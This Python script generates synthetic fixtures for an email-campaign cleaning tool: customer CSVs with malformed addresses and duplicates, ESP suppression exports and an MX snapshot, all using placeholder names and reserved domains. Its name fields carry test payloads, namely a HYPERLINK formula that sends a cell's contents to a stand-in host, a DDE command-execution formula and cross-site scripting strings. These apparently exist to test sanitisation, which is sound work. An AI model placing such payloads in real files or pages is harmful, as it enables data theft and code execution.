#!/usr/bin/env python3
"""Writes the sample campaigns and the lists that go with them.

    samples/make.py            write the files beside this script
    samples/make.py --check    compare them with what would be written; exit 1 when they differ

Nobody in these files exists. Gmail takes no hyphen in a name, the names at Japanese carriers and at Yahoo are longer than
those allow, and the companies are under `.example` and `example.jp`, which are reserved.
"""
import json
import random
import sys
from datetime import date, timedelta
from pathlib import Path

HERE = Path(__file__).resolve().parent
AS_OF = date(2026, 11, 21)
ROWS_JA = 2000
ROWS_EN = 300

FAMILY = ["見本", "佐藤", "鈴木", "髙橋", "田中", "伊藤", "渡辺", "山本", "中村", "小林", "山﨑", "表", "曽根", "十河", "申", "能登",
          "弓削", "芸藤", "斎藤", "齋藤", "吉田", "森", "池田", "橋本", "ソウル", "竹能"]
GIVEN = ["太郎", "花子", "一郎", "さくら", "圭", "能子", "十和子", "ソラ", "ポラリス", "健", "美咲", "蓮", "陽菜", "①子", "表次郎",
         "ひなた", "千尋", "翔太", "予之介", "構"]
TOWNS = ["東京都千代田区見本町1-2-3", "大阪府大阪市北区例示4-5", "北海道札幌市中央区見本１条", "福岡県福岡市見本ヶ丘7"]
FIRST_EN = ["Alex", "Sam", "Robin", "Kim", "Jamie", "Taylor", "Morgan", "Casey", "Jordan", "Riley"]
LAST_EN = ["Sample", "Placeholder", "O'Example", "Testcase", "Specimen", "D'Illustration", "Müster", "Próba"]

# Domain, share of the people, and what its mail server is called.
PROVIDERS_JA = [
    ("gmail.com", 30, "google_gmail", "gmail-smtp-in.l.google.com"),
    ("docomo.ne.jp", 15, "docomo", "mfsmax.docomo.ne.jp"),
    ("yahoo.co.jp", 13, "yahoo_japan", "mx1.mail.yahoo.co.jp"),
    ("ezweb.ne.jp", 7, "au_kddi", "lsean.ezweb.ne.jp"),
    ("icloud.com", 7, "apple_icloud", "mx01.mail.icloud.com"),
    ("softbank.ne.jp", 6, "softbank", "mx.softbank.ne.jp"),
    ("i.softbank.jp", 5, "softbank", "mailsv.softbank.jp"),
    ("au.com", 4, "au_kddi", "msmx.au.com"),
    ("outlook.jp", 3, "microsoft_consumer", "outlook-jp.olc.protection.outlook.com"),
    ("mihon-shoji.example", 3, "", "mail.mihon-shoji.example"),
    ("aozora-trading.example", 2, "microsoft_365", "aozora-trading.mail.protection.outlook.com"),
    ("見本商店.example", 2, "", "mx.mihon-host.example"),
    ("ソフト工房.example", 1, "", "mx.mihon-host.example"),
    ("表計算教室.example", 1, "", "mx.mihon-host.example"),
    ("例え.example.jp", 1, "", "mx.mihon-host.example"),
]
PROVIDERS_EN = [
    ("gmail.com", 45, "google_gmail", "gmail-smtp-in.l.google.com"),
    ("outlook.com", 15, "microsoft_consumer", "outlook-com.olc.protection.outlook.com"),
    ("icloud.com", 15, "apple_icloud", "mx01.mail.icloud.com"),
    ("blue-harbour.example", 10, "google_workspace", "aspmx.l.google.com"),
    ("müller-tee.example", 5, "", "mx.mihon-host.example"),
    ("north.wind.example", 10, "", "mail.north.wind.example"),
]
# Domains that no mail reaches, or of which nothing certain is known.
DEAD = [("tojita-shoten.example", "no_mail", "nxdomain"), ("mail-nashi.example", "no_mail", "null_mx"),
        ("kyugyo-chu.example", "no_mail", "nodata"), ("kieta-server.example", "no_mail", "mx_dangling"),
        ("uchigawa.example", "no_mail", "mx_private_ip")]
ODD = [("fuan-tei.example", "unknown", "servfail"), ("henji-nashi.example", "unknown", "timeout"),
       ("mx-nashi.example", "deliverable", "implicit_mx")]
# Providers that would let somebody have the short name; none of them has room for the long one, or a user who wants it.
LONG_NAMES = {"docomo.ne.jp", "ezweb.ne.jp", "au.com", "softbank.ne.jp", "i.softbank.jp", "yahoo.co.jp", "outlook.jp", "outlook.com"}
COMPETITOR = "kyogo-shoji.example"
RIVAL = "eigyo.rival-group.example"


def idna(domain):
    return ".".join(label.encode("idna").decode() if not label.isascii() else label for label in domain.split("."))


def wide(text):
    """As typed with the input method left in full-width mode."""
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


class Maker:
    def __init__(self, seed):
        self.random = random.Random(seed)
        self.number = 0

    def pick(self, items):
        return items[self.random.randrange(len(items))]

    def provider(self, providers):
        return self.random.choices([p[0] for p in providers], [p[1] for p in providers])[0]

    def local(self, domain):
        """A name that cannot be anybody's, a new one each time."""
        self.number += 1
        return f"presend-sample-{self.number:04d}" + (".not-a-mailbox" if domain in LONG_NAMES else "")

    def address(self, domain):
        return f"{self.local(domain)}@{domain}"

    def day(self, youngest, oldest):
        """Between that many days before the day of judgement."""
        return AS_OF - timedelta(days=self.random.randint(youngest, oldest))


# ---- dates as the shops write them

def slash(day):
    return f"{day.year}/{day.month}/{day.day}"


def slash_time(day, maker):
    return f"{day.year}/{day.month:02d}/{day.day:02d} {maker.random.randrange(24):02d}:{maker.random.randrange(60):02d}"


def quoted(cell):
    return '"' + cell.replace('"', '""') + '"'


def csv_cell(cell):
    return quoted(cell) if any(c in cell for c in ',"\r\n') else cell


# ---- the Japanese campaign

HEADERS_JA = ["会員ID", "お名前", "メールアドレス", "最終ログイン日", "最終購入日", "最終クリック日", "最終配信日", "登録日", "ウィンバック配信日",
              "配信停止フラグ", "会員ステータス", "備考"]

# What people call themselves when a form lets them.
HOSTILE_NAMES = ['=HYPERLINK("http://warui.example/?"&C2,"当選")', "<script>alert(1)</script>", "+SUM(1,2)", "-2+3", "@SUM(A1:A9)",
                 "'=1+1", '"><img src=x onerror=alert(1)>', "＝１＋１", "=cmd|' /C calc'!A0", "</td></tr></table><h1>見出し</h1>"]

BOUNCED = (20, 60)  # days since the bounces


class Japanese:
    def __init__(self):
        self.maker = Maker(20261121)
        self.people = []  # of dicts by header, "raw" for a record that is written as it stands
        self.lists = {name: [] for name in ("mailgun_bounces", "mailgun_complaints", "mailgun_unsubscribes", "sendgrid_bounces",
                                            "sendgrid_spam", "ses", "manual")}

    def person(self, address, sign=None, signup=None, **cells):
        """`sign`: days since the last click, log-in or purchase; None: there never was one."""
        m = self.maker
        row = dict.fromkeys(HEADERS_JA, "")
        row["会員ID"] = f"M{100000 + len(self.people)}"
        row["お名前"] = f"{m.pick(FAMILY)}　{m.pick(GIVEN)}"
        row["メールアドレス"] = address
        joined = signup if signup is not None else m.random.randint(max(400, (sign or 0) + 60), 2200)
        row["登録日"] = slash(AS_OF - timedelta(days=joined))
        row["最終配信日"] = slash(AS_OF - timedelta(days=7))
        row["配信停止フラグ"] = "0"
        row["会員ステータス"] = m.pick(["本会員", "本会員", "プレミアム会員"])
        if sign is not None:
            self.signs(row, sign, joined)
        self.note(row)
        row.update(cells)
        self.people.append(row)
        return row

    def signs(self, row, sign, joined):
        m = self.maker
        older = [m.random.randint(sign, max(sign, joined)) for _ in range(3)]
        older[m.random.randrange(3)] = sign
        days = [AS_OF - timedelta(days=d) for d in older]
        row["最終ログイン日"] = slash_time(days[0], m) if older[0] == sign or m.random.random() < 0.9 else ""
        row["最終購入日"] = slash(days[1]) if older[1] == sign or m.random.random() < 0.6 else m.pick(["", "", "未購入", "なし"])
        row["最終クリック日"] = days[2].isoformat() if older[2] == sign or m.random.random() < 0.5 else m.pick(["", "", "―"])

    def note(self, row):
        m = self.maker
        kind = m.random.random()
        if kind < 0.10:
            row["備考"] = f"{m.pick(TOWNS)}, 見本ビル{m.random.randint(2, 30)}F"
        elif kind < 0.14:
            row["備考"] = f"電話は午後のみ\r\n担当: {m.pick(FAMILY)}様"
        elif kind < 0.17:
            row["備考"] = '通称"ソ・表"の会'
        elif kind < 0.19:
            row["備考"] = "㈱見本\n①②③ ～ 予約ポイント｜対象"

    def clean_address(self):
        return self.maker.address(self.maker.provider(PROVIDERS_JA))

    def active(self):
        return self.maker.random.choices([self.maker.random.randint(0, 90), self.maker.random.randint(91, 180)], [85, 15])[0]

    # -- groups, each of people of one fate

    def plain(self, count):
        for _ in range(count):
            self.person(self.clean_address(), sign=self.active())

    def newcomers(self, count):
        for _ in range(count):
            self.person(self.clean_address(), signup=self.maker.random.randint(0, 30))

    def other_spellings(self, count):
        """Good addresses that were typed, pasted or exported carelessly."""
        m = self.maker
        forms = [lambda a: wide(a), lambda a: a.replace("@", "＠"), lambda a: "　" + a, lambda a: a + " ", lambda a: a + "　",
                 lambda a: a.split("@")[0] + "@" + a.split("@")[1].upper(), lambda a: f"見本 太郎 <{a}>", lambda a: "mailto:" + a,
                 lambda a: a + ".", lambda a: f"<{a}>", lambda a: a.replace("presend-", "Presend-"),
                 lambda a: '"' + a.split("@")[0] + '"@' + a.split("@")[1], lambda a: a.replace(".", "。") if "。" not in a else a]
        for i in range(count):
            self.person(forms[i % len(forms)](self.clean_address()), sign=self.active())

    def legacy_carrier(self):
        """Names with dots where today's rules forbid them; docomo and au gave them out until 2009, and they still live."""
        m = self.maker
        for i in range(22):
            m.number += 1
            local = [f"presend..sample-{m.number:04d}.not-a-mailbox", f"presend-sample-{m.number:04d}.not-a-mailbox.",
                     f".presend-sample-{m.number:04d}.not-a-mailbox", f'"presend..sample-{m.number:04d}.not-a-mailbox"'][i % 4]
            self.person(f"{local}@{m.pick(['docomo.ne.jp', 'docomo.ne.jp', 'ezweb.ne.jp'])}", sign=self.active())

    def odd_domains(self):
        for domain, _, _ in ODD:
            for _ in range(4):
                self.person(self.maker.address(domain), sign=self.active())
        for _ in range(3):  # not in the snapshot
            self.person(self.maker.address("atarashii-mise.example"), sign=self.active())
        self.person("info@mihon-shoji.example", sign=12)
        self.person("info@aozora-trading.example", sign=40)

    def winback(self):
        m = self.maker
        for _ in range(60):
            self.person(self.clean_address(), sign=m.random.randint(181, 365))
        for _ in range(18):  # the mail is out
            self.person(self.clean_address(), sign=m.random.randint(215, 365), **{"ウィンバック配信日": slash(m.day(1, 30))})
        for _ in range(16):  # and was not answered
            self.person(self.clean_address(), sign=m.random.randint(260, 380), **{"ウィンバック配信日": slash(m.day(31, 70))})
        for _ in range(14):  # and brought them back
            sent = m.random.randint(60, 120)
            self.person(self.clean_address(), sign=m.random.randint(5, sent - 2),
                        **{"ウィンバック配信日": slash(AS_OF - timedelta(days=sent))})

    def gone(self):
        m = self.maker
        for _ in range(28):
            self.person(self.clean_address(), sign=m.random.randint(366, 1500))
        for _ in range(9):
            self.person(self.clean_address(), signup=m.random.randint(380, 1500))
        for _ in range(4):  # signed up long ago, and no mail ever went there
            self.person(self.clean_address(), signup=m.random.randint(380, 900), **{"最終配信日": ""})

    def suppressed(self):
        plan = [("mailgun_bounces", 14), ("mailgun_complaints", 8), ("mailgun_unsubscribes", 18), ("sendgrid_bounces", 12),
                ("sendgrid_spam", 6), ("ses", 10), ("manual", 7)]
        for name, count in plan:
            bounced = name in ("mailgun_bounces", "sendgrid_bounces", "ses")
            for i in range(count):
                address = self.clean_address()
                # Whoever shows life after a bounce is held, and two do.
                lived = bounced and not (name == "mailgun_bounces" and i < 2)
                self.person(address, sign=self.maker.random.randint(BOUNCED[1] + 1, 175) if lived else self.active())
                self.lists[name].append(self.as_listed(address, i))
        # On two lists at once: the stronger reason is told.
        both = self.clean_address()
        self.person(both, sign=3)
        self.lists["mailgun_bounces"].append(both)
        self.lists["sendgrid_spam"].append(both)

    def as_listed(self, address, i):
        """Lists write the same address in their own way."""
        local, domain = address.rsplit("@", 1)
        if not domain.isascii():
            return f"{local}@{idna(domain)}"
        return [address, address, f"{local.upper()}@{domain}", address][i % 4]

    def suppressed_aliases(self):
        m = self.maker
        for name in ("mailgun_complaints", "mailgun_unsubscribes", "ses_bounce"):
            m.number += 1
            local = f"presend-sample-{m.number:04d}"
            self.person(f"{local}@gmail.com", sign=20)
            self.lists["ses" if name == "ses_bounce" else name].append(f"{local}+shop@gmail.com")
        for _ in range(5):
            self.person(m.address(COMPETITOR), sign=self.active())
        for _ in range(2):
            self.person(m.address(RIVAL), sign=self.active())

    def columns(self):
        for _ in range(18):
            self.person(self.clean_address(), sign=self.active(), **{"配信停止フラグ": "1"})
        for _ in range(7):
            self.person(self.clean_address(), sign=self.active(), **{"会員ステータス": "退会済"})
        for _ in range(4):
            self.person(self.clean_address(), signup=self.maker.random.randint(0, 20), **{"会員ステータス": "仮登録"})

    def dead_domains(self):
        for domain, _, _ in DEAD:
            for _ in range(6 if domain.startswith("tojita") else 5):
                self.person(self.maker.address(domain), sign=self.active())

    def bad_addresses(self):
        n = "presend-sample-"
        for i, address in enumerate([
                "", "　", "なし", n + "9001", n + "9002.gmail.com", n + "9003@@gmail.com", n + "9004 @gmail.com",
                n + "9005@mihon-shoji .example", n + "9006@", "@docomo.ne.jp", n + "9007@gmail", n + "9008@192.0.2.7",
                n + "9009@[192.0.2.7]", n + "9010@gmail..com", n + "9011@.gmail.com", n + "9012@mihon_shoji.example",
                n + "9013@-mihon.example", n + "9014@mihon.exampel", n + "9015@example.com", n + "9016@example.net", n + "9017@localhost",
                "presend..sample@gmail.com", "presend.@softbank.ne.jp", ".presend@yahoo.co.jp", n + "9018(会社)@gmail.com",
                "presend,sample@gmail.com", "presend:sample@gmail.com", '"presend sample@gmail.com', "presend\x07sample@gmail.com",
                n + "9019@" + "m" * 64 + ".example", "p" * 65 + "@gmail.com", "★" + n + "9020@gmail.com", n + "9021@♪.example",
                n + "9022@gmail.com, " + n + "9023@gmail.com", n + "9024@gmail.com>", n + "9025%40gmail.com"]):
            self.person(address, sign=self.active())

    def doubtful_addresses(self):
        m = self.maker
        for domain in ["gmial.com", "gmai.com", "gmail.co", "gmail.co.jp", "docomo.jp", "docomo.ne.jo", "dokomo.ne.jp", "yaho.co.jp",
                       "ezwed.ne.jp", "i.softbank.ne.jp", "iclould.com", "yahoo.jp"]:
            self.person(m.address(domain), sign=self.active())
        for domain in ["mailinator.com", "mailinator.com", "yopmail.com", "guerrillamail.com"]:
            self.person(m.address(domain), sign=self.active())
        for local in ["noreply", "postmaster", "abuse"]:
            self.person(f"{local}@mihon-shoji.example", sign=self.active())
        for local in ['"presend sample"', '"presend..sample"']:
            self.person(f"{local}@mihon-shoji.example", sign=self.active())
        for local in ["見本太郎", "サンプル花子", "presend-見本"]:
            self.person(f"{local}@見本商店.example", sign=self.active())

    def damaged(self):
        m = self.maker
        for _ in range(4):  # an export that lost its last cells
            row = self.person(self.clean_address(), sign=10)
            row["raw"] = [row[h] for h in HEADERS_JA[:m.random.randint(4, 9)]]
        for _ in range(2):  # a comma that nobody quoted
            row = self.person(self.clean_address(), sign=10)
            row["raw"] = [row[h] for h in HEADERS_JA[:-1]] + ["東京都見本区1-2", "見本ビル3F"]
        for word in ["昨年の春", "2024/13/45", "入会時", "2025/2/30"]:
            row = self.person(self.clean_address(), signup=900)
            row["最終購入日"] = word
        for _ in range(3):  # a clock that was wrong
            self.person(self.clean_address(), sign=15, **{"最終購入日": "2027/8/1"})

    def hostile(self):
        for i, name in enumerate(HOSTILE_NAMES * 2):
            row = self.person(self.clean_address(), sign=self.active() if i < 14 else 500, **{"お名前": name})
            if i < 4:
                row["備考"] = HOSTILE_NAMES[-1 - i]

    def duplicates(self, count):
        """The same people again, elsewhere in the file and spelled otherwise."""
        m = self.maker
        good = [p for p in self.people if "raw" not in p and p["メールアドレス"].startswith("presend-sample-") and
                p["メールアドレス"].count("@") == 1 and p["メールアドレス"].split("@")[1] not in dict.fromkeys(d[0] for d in DEAD)]
        listed = {a.lower() for entries in self.lists.values() for a in entries}
        good = [p for p in good if p["メールアドレス"].lower() not in listed and p["配信停止フラグ"] == "0" and
                p["会員ステータス"] != "退会済"]
        for i, first in enumerate(m.random.sample(good[:1200], count)):
            local, domain = first["メールアドレス"].split("@")
            spelling = [f"{local}@{domain}", f"{local.upper()}@{domain}", wide(f"{local}@{domain}"), f'"{local}"@{domain}',
                        f"{local}@{idna(domain)}", f" {local}@{domain.upper()}"][i % 6]
            self.person(spelling, sign=self.active())
        for first in [p for p in good if not p["メールアドレス"].isascii()][:4]:  # one domain, in letters and as an A-label
            local, domain = first["メールアドレス"].split("@")
            self.person(f"{local}@{idna(domain)}", sign=self.active())

    def optout_in_another_row(self):
        """Opted out in one of two rows: that is the address's word, whichever row it stands in."""
        for _ in range(3):
            address = self.clean_address()
            self.person(address, sign=5)
            self.person(address.upper() if address.isascii() else address, sign=5, **{"配信停止フラグ": "1"})

    def make(self):
        self.other_spellings(130)
        self.legacy_carrier()
        self.newcomers(60)
        self.odd_domains()
        self.winback()
        self.gone()
        self.suppressed()
        self.suppressed_aliases()
        self.columns()
        self.dead_domains()
        self.bad_addresses()
        self.doubtful_addresses()
        self.damaged()
        self.hostile()
        self.optout_in_another_row()
        self.plain(ROWS_JA - 44 - len(self.people))
        self.duplicates(40)
        assert len(self.people) == ROWS_JA, len(self.people)
        self.maker.random.shuffle(self.people)
        for i, row in enumerate(self.people):
            row["会員ID"] = f"M{100001 + i}"
            if "raw" in row:
                row["raw"][0] = row["会員ID"]

    def csv(self):
        lines = [",".join(HEADERS_JA)]
        for i, row in enumerate(self.people):
            cells = row.get("raw") or [row[h] for h in HEADERS_JA]
            # One row in nine as an exporter writes it that quotes everything: what is not changed keeps such quotes.
            lines.append(",".join(quoted(c) if i % 9 == 4 else csv_cell(c) for c in cells))
        return ("\r\n".join(lines) + "\r\n").encode("cp932")


# ---- the English campaign

HEADERS_EN = ["Customer ID", "Name", "Email", "Accepts Email Marketing", "Last Login", "Last Purchase", "Signup Date", "Notes"]


class English:
    def __init__(self):
        self.maker = Maker(20260101)
        self.maker.number = 5000
        self.rows = []
        self.unsubscribed = []

    def person(self, address, sign=None, signup=None, **cells):
        m = self.maker
        joined = signup if signup is not None else m.random.randint(max(400, (sign or 0) + 60), 1800)
        row = dict.fromkeys(HEADERS_EN, "")
        row["Name"] = f"{m.pick(FIRST_EN)} {m.pick(LAST_EN)}"
        row["Email"] = address
        row["Accepts Email Marketing"] = "yes"
        row["Signup Date"] = (AS_OF - timedelta(days=joined)).isoformat()
        if sign is not None:
            row["Last Login"] = (AS_OF - timedelta(days=sign)).isoformat() + "T09:30:00+09:00"
            if m.random.random() < 0.5:
                row["Last Purchase"] = (AS_OF - timedelta(days=m.random.randint(sign, joined))).isoformat()
        if m.random.random() < 0.15:
            row["Notes"] = m.pick(["12 Sample Street, Placeholder", 'asked for the "gold" plan', "two\nlines"])
        row.update({k.replace("_", " "): v for k, v in cells.items()})
        self.rows.append(row)
        return row

    def good(self):
        return self.maker.address(self.maker.provider(PROVIDERS_EN))

    def make(self):
        m = self.maker
        for form in [lambda a: a.upper(), lambda a: f"Sample <{a}>", lambda a: " " + a, lambda a: a + ".", lambda a: "mailto:" + a] * 3:
            self.person(form(self.good()), sign=m.random.randint(0, 90))
        for _ in range(12):
            self.person(self.good(), sign=m.random.randint(181, 365))
        for _ in range(6):
            self.person(self.good(), sign=m.random.randint(366, 900))
        for _ in range(8):
            self.person(self.good(), sign=20, Accepts_Email_Marketing="no")
        for _ in range(3):
            self.person(self.good(), sign=20, Accepts_Email_Marketing="")
        for i in range(10):
            address = self.good()
            self.unsubscribed.append(address)
            self.person(address, sign=15)
        for address in ["presend-sample-9101@gmial.com", "presend-sample-9102@gmail.con", "presend-sample-9103@mailinator.com",
                        "presend-sample-9104", "presend-sample-9105 @gmail.com", "noreply@blue-harbour.example", ""]:
            self.person(address, sign=10)
        for _ in range(5):
            self.person(m.address(DEAD[0][0]), sign=10)
        self.person(self.good(), sign=9, Name='=HYPERLINK("http://bad.example","prize")')
        self.person(self.good(), sign=700, Name="<script>alert(1)</script>")
        while len(self.rows) < ROWS_EN - 8:
            self.person(self.good(), sign=m.random.choices([m.random.randint(0, 90), m.random.randint(91, 180)], [4, 1])[0])
        for first in m.random.sample([r for r in self.rows if r["Email"].startswith("presend")][-200:], 8):
            self.person(first["Email"].upper(), sign=30)
        m.random.shuffle(self.rows)
        for i, row in enumerate(self.rows):
            row["Customer ID"] = str(70001 + i)

    def csv(self):
        lines = [",".join(HEADERS_EN)] + [",".join(csv_cell(row[h]) for h in HEADERS_EN) for row in self.rows]
        return ("\n".join(lines) + "\n").encode()


# ---- what the ESPs exported

def others(maker, count):
    """Entries of people who are not in the campaign."""
    return [maker.address("gmail.com") for _ in range(count)]


def weekday_stamp(day, maker):
    return (f"{day:%a}, {day.day:02d} {day:%b} {day.year} {maker.random.randrange(24):02d}:{maker.random.randrange(60):02d}:"
            f"{maker.random.randrange(60):02d} UTC")


def mailgun(header, row, entries, maker, days=(20, 900)):
    lines = [header] + [row(a, f'"{weekday_stamp(maker.day(*days), maker)}"') for a in entries]
    return ("\n".join(lines) + "\n").encode()


def epoch(day, maker):
    return (day - date(1970, 1, 1)).days * 86400 + maker.random.randrange(86400)


def sendgrid_bounces(entries, maker):
    lines = ["status,reason,email,created"]
    for a in entries:
        lines.append(f'5.1.1,"550 5.1.1 The email account that you tried to reach does not exist",{a},{epoch(maker.day(*BOUNCED), maker)}')
    return ("\n".join(lines) + "\n").encode()


def sendgrid_spam_reports(entries, maker):
    return ("\n".join(["email,ip,created"] + [f"{a},192.0.2.10,{epoch(maker.day(20, 900), maker)}" for a in entries]) + "\n").encode()


def sendgrid_unsubscribes(entries, maker):
    return ("\n".join(["email,created"] + [f"{a},{epoch(maker.day(20, 900), maker)}" for a in entries]) + "\n").encode()


def ses(entries, maker):
    items = [{"EmailAddress": a, "Reason": "COMPLAINT" if i % 4 == 1 else "BOUNCE",
              "LastUpdateTime": f"{maker.day(*BOUNCED).isoformat()}T08:53:20.123000+00:00"} for i, a in enumerate(entries)]
    return (json.dumps({"SuppressedDestinationSummaries": items}, indent=1) + "\n").encode()


def do_not_mail(entries):
    lines = ["# Asked by telephone or letter never to be mailed again. One address a line."]
    lines += [wide(a) if i == 2 and a.isascii() else a for i, a in enumerate(entries)]
    return ("\n".join(lines) + "\n").encode()


def snapshot():
    lines = ["domain,verdict,reason,operator,mx,checked_at"]
    seen = {}
    for domain, _, operator, mx in PROVIDERS_JA + PROVIDERS_EN:
        seen[idna(domain)] = f"{idna(domain)},deliverable,mx,{operator},{mx},2026-11-20T18:00:00Z"
    for domain in ["mailinator.com", "yopmail.com", "guerrillamail.com", COMPETITOR, RIVAL]:
        seen[domain] = f"{domain},deliverable,mx,,mx.{domain},2026-11-20T18:00:00Z"
    for domain, verdict, reason in DEAD + ODD:
        seen[domain] = f"{domain},{verdict},{reason},,,2026-11-20T18:00:00Z"
    return ("\n".join(lines + [seen[d] for d in sorted(seen)]) + "\n").encode()


def make():
    ja, en = Japanese(), English()
    ja.make()
    en.make()
    maker = Maker(7)
    maker.number = 7000
    lists = ja.lists
    return {
        "campaign-ja.csv": ja.csv(),
        "campaign-en.csv": en.csv(),
        "mailgun-bounces.csv": mailgun("address,code,error,created_at", lambda a, t: f"{a},550,No such mailbox,{t}",
                                       lists["mailgun_bounces"] + others(maker, 40), maker, BOUNCED),
        "mailgun-complaints.csv": mailgun("address,created_at", lambda a, t: f"{a},{t}", lists["mailgun_complaints"] + others(maker, 6),
                                          maker),
        "mailgun-unsubscribes.csv": mailgun("address,tags,created_at", lambda a, t: f"{a},*,{t}",
                                            lists["mailgun_unsubscribes"] + others(maker, 30), maker),
        "sendgrid-bounces.csv": sendgrid_bounces(lists["sendgrid_bounces"] + others(maker, 25), maker),
        "sendgrid-spam-reports.csv": sendgrid_spam_reports(lists["sendgrid_spam"] + others(maker, 5), maker),
        "sendgrid-unsubscribes.csv": sendgrid_unsubscribes(en.unsubscribed + others(maker, 12), maker),
        "ses-suppressed.json": ses(lists["ses"] + others(maker, 20), maker),
        "do-not-mail.txt": do_not_mail(lists["manual"] + others(maker, 3)),
        "do-not-mail-domains.txt": f"# Competitors: the domain itself, and everything below the group's.\n{COMPETITOR}\n*.rival-group.example\n".encode(),
        "mx-snapshot.csv": snapshot(),
    }


def main():
    if sys.argv[1:] not in ([], ["--check"]):
        sys.exit("usage: samples/make.py [--check]")
    wrong = []
    for name, content in make().items():
        path = HERE / name
        if sys.argv[1:] == []:
            path.write_bytes(content)
        elif not path.exists() or path.read_bytes() != content:
            wrong.append(name)
    if wrong:
        sys.exit("not what samples/make.py writes: " + ", ".join(wrong))


if __name__ == "__main__":
    main()
